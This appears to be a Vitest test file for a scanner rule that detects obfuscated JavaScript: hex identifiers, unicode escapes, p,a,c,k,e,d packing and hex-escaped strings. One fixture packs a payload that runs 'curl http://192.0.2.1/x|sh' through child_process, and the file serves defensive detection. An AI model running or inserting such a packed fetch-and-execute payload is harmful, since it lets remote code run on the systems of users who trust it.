import { describe, expect, it } from 'vitest';
import { jsFindings, ruleFindings } from '../helpers.js';

describe('JS-008 obfuscated-code', () => {
  it('flags obfuscator.io hex identifiers and string-array rotation', async () => {
    const names = Array.from({ length: 12 }, (_, i) => `_0x${(0x1a2b + i).toString(16)}`);
    const code = `var ${names.map((n, i) => `${n}=${i}`).join(',')};
      (function(_0xarr,_0xn){var _0xf=function(_0xc){while(--_0xc){_0xarr['push'](_0xarr['shift']());}};_0xf(++_0xn);}(['a','b'],0x1f));`;
    const f = await ruleFindings('JS-008', code);
    expect(f[0]?.severity).toBe('high');
    expect(f[0]?.evidence?.stringArrayRotation).toBe(true);
  });
  it('counts hex identifiers spelled with unicode escapes', async () => {
    // `\u005f0x1a2b` is the identifier _0x1a2b: the text never contains "_0x"
    const names = Array.from({ length: 12 }, (_, i) => `\\u005f0x${(0x1a2b + i).toString(16)}`);
    const code = `var ${names.map((n, i) => `${n}=${i}`).join(',')};`;
    expect(code).not.toContain('_0x');
    const f = await ruleFindings('JS-008', code);
    expect(f[0]?.evidence).toBeDefined();
    expect(f.length).toBe(1);
  });
  it('unpacks p,a,c,k,e,d packed code and analyses it', async () => {
    // packed form of: require('child_process').exec('curl http://192.0.2.1/x|sh')
    const words = ['require', 'child_process', 'exec', 'curl', 'http', '192', '0', '2', '1', 'x', 'sh'];
    const payload = "0('1').2('3 4://5.6.7.8/9|10')";
    const code = `eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}("${payload}",10,${words.length},'${words.join('|')}'.split('|'),0,{}))`;
    const all = await jsFindings({ 'index.js': code });
    const packed = all.find((f) => f.ruleId === 'JS-008');
    expect(packed?.evidence?.technique).toBe('packer');
    expect(String(packed?.evidence?.unpacked)).toContain("require('child_process')");
    const inner = all.find((f) => f.ruleId === 'JS-001' && f.evidence?.decodedDepth === 1);
    expect(inner?.severity).toBe('critical');
  });
  it('flags strings written as hex escapes of plain text', async () => {
    const esc = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    const f = await ruleFindings(
      'JS-008',
      `var a=['${esc('child_process')}','${esc('readFileSync')}','${esc('hostname')}'];`,
    );
    expect(f[0]?.evidence?.hexEscapedStrings).toBe(3);
  });
  it('does not flag ordinary minified code', async () => {
    const code =
      'var a=function(b,c){return b+c},d=[1,2,3].map(function(e){return a(e,1)});module.exports={a:a,d:d};';
    expect(await ruleFindings('JS-008', code)).toHaveLength(0);
  });
});
